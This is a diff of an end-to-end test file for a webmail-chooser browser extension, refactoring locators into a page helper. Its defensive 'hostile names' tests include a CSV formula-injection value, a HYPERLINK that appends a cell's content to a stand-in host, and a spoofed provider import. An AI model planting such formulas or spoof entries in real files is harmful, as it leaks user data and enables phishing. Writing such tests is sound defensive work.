@@ -12,6 +12,7 @@ import {
 } from '../../tools/chromium';
 import { canWritePolicies, removePolicy, writePolicy } from '../../tools/policy-file';
 import { e2e } from '../support/fixture';
+import { ui } from '../support/pages';
 
 let browser: Browser;
 e2e.beforeAll(async ({ browser: started }) => {
@@ -50,15 +51,15 @@ describe('corrupt stored data', () => {
   e2e('a history entry dated 1e20 is dropped; the rest is listed and can be cleared', async () => {
     await store('local', { history: [entry(1e20), entry(Date.parse('2026-11-25T08:00:00Z'))] });
     const popup = await openPopup(browser);
-    await popup.locator('[data-action="history"]').click();
+    await ui(popup).action('history').click();
     await expect.poll(() => popup.locator('[data-history-entry]').count()).toBe(1);
-    expect(await popup.locator('[data-action="clear-history"]').isVisible()).toBe(true);
+    expect(await ui(popup).action('clear-history').isVisible()).toBe(true);
   });
 
   e2e('a wizard state opened at 1e300 starts afresh instead of a blank verdict', async () => {
     await store('session', { wizard: { providerId: 'aruba', openedAt: 1e300, answers: { outcome: 'works' } } });
     const popup = await openPopup(browser);
-    expect(await popup.locator('[data-action="open-webmail"]').isVisible()).toBe(true);
+    expect(await ui(popup).action('open-webmail').isVisible()).toBe(true);
   });
 });
 
@@ -73,11 +74,8 @@ describe('hostile names', () => {
       ],
     });
     const popup = await openPopup(browser);
-    await popup.locator('[data-action="history"]').click();
-    const [csv] = await Promise.all([
-      popup.waitForEvent('download'),
-      popup.locator('[data-action="export-csv"]').click(),
-    ]);
+    await ui(popup).action('history').click();
+    const [csv] = await Promise.all([popup.waitForEvent('download'), ui(popup).action('export-csv').click()]);
     const text = readFileSync((await csv.path()) as string, 'utf8');
     const cells = text.split('\r\n')[1] ?? '';
     expect(cells).toContain(`"'=HYPERLINK(""https://x.example/?""&G2,""Open"")"`);
@@ -89,19 +87,21 @@ describe('hostile names', () => {
     const options = await browser.context.newPage();
     await options.goto(`chrome-extension://${browser.extensionId}/options.html`);
     await settingsSettled(options);
-    await options.locator('[data-action="import-settings"]').setInputFiles({
-      name: 'settings.json',
-      mimeType: 'application/json',
-      buffer: Buffer.from(
-        JSON.stringify({
-          hiddenProviders: ['aruba'],
-          customProviders: [
-            { id: 'fake-aruba', name: 'Aruba', webmailUrl: 'https://webmail-aruba.example/' },
-            { id: 'studio', name: 'Posta Studio', webmailUrl: 'https://posta.studio.example/' },
-          ],
-        }),
-      ),
-    });
+    await ui(options)
+      .action('import-settings')
+      .setInputFiles({
+        name: 'settings.json',
+        mimeType: 'application/json',
+        buffer: Buffer.from(
+          JSON.stringify({
+            hiddenProviders: ['aruba'],
+            customProviders: [
+              { id: 'fake-aruba', name: 'Aruba', webmailUrl: 'https://webmail-aruba.example/' },
+              { id: 'studio', name: 'Posta Studio', webmailUrl: 'https://posta.studio.example/' },
+            ],
+          }),
+        ),
+      });
     await options.locator('[data-import-changes]').waitFor();
     expect(await options.locator('[data-import-changes] li').allTextContents()).toEqual([
       'Your own providers: Posta Studio (posta.studio.example)',
@@ -118,10 +118,8 @@ describe('hostile names', () => {
       customProviders: [{ id: 'studio', name: 'Posta Studio', webmailUrl: 'https://posta.studio.example/' }],
     });
     const popup = await openPopup(browser);
-    await expect
-      .poll(() => popup.locator('[data-provider="studio"] ~ [data-provider-host]').textContent())
-      .toBe('posta.studio.example');
-    expect(await popup.locator('[data-provider="aruba"] ~ [data-provider-host]').count()).toBe(0);
+    await expect.poll(() => ui(popup).providerHost('studio').textContent()).toBe('posta.studio.example');
+    expect(await ui(popup).providerHost('aruba').count()).toBe(0);
   });
 });
 
@@ -135,7 +133,7 @@ describe.skipIf(!canWritePolicies())('a policy hiding every provider', () => {
       try {
         const popup = await openPopup(managed);
         await settingsSettled(popup);
-        expect(await popup.locator('[data-provider]').count()).toBe(builtInProviders.length);
+        expect(await ui(popup).provider().count()).toBe(builtInProviders.length);
       } finally {
         await managed.close();
         removePolicy();
